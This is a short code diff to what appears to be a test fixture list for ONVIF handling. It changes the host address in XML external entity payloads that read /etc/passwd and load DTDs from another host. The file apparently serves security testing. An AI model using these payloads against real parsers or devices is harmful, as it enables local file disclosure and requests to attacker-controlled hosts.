@@ -82,14 +82,14 @@ ONVIF: Final = (
         "answers ONVIF with entities that read files and fetch pages",
         lambda: _clock(
             b"&x;&y;",
-            b'<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "http://10.66.0.250/dtd">]>',
+            b'<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "http://10.66.1.250/dtd">]>',
         ),
     ),
     _onvif(
         "parameter-entity",
         "answers ONVIF with a DTD from another host",
         lambda: _clock(
-            b"x", b'<!DOCTYPE l PUBLIC "a" "http://10.66.0.250/x.dtd" [<!ENTITY % p SYSTEM "http://10.66.0.250/p">%p;]>'
+            b"x", b'<!DOCTYPE l PUBLIC "a" "http://10.66.1.250/x.dtd" [<!ENTITY % p SYSTEM "http://10.66.1.250/p">%p;]>'
         ),
     ),
     _onvif(
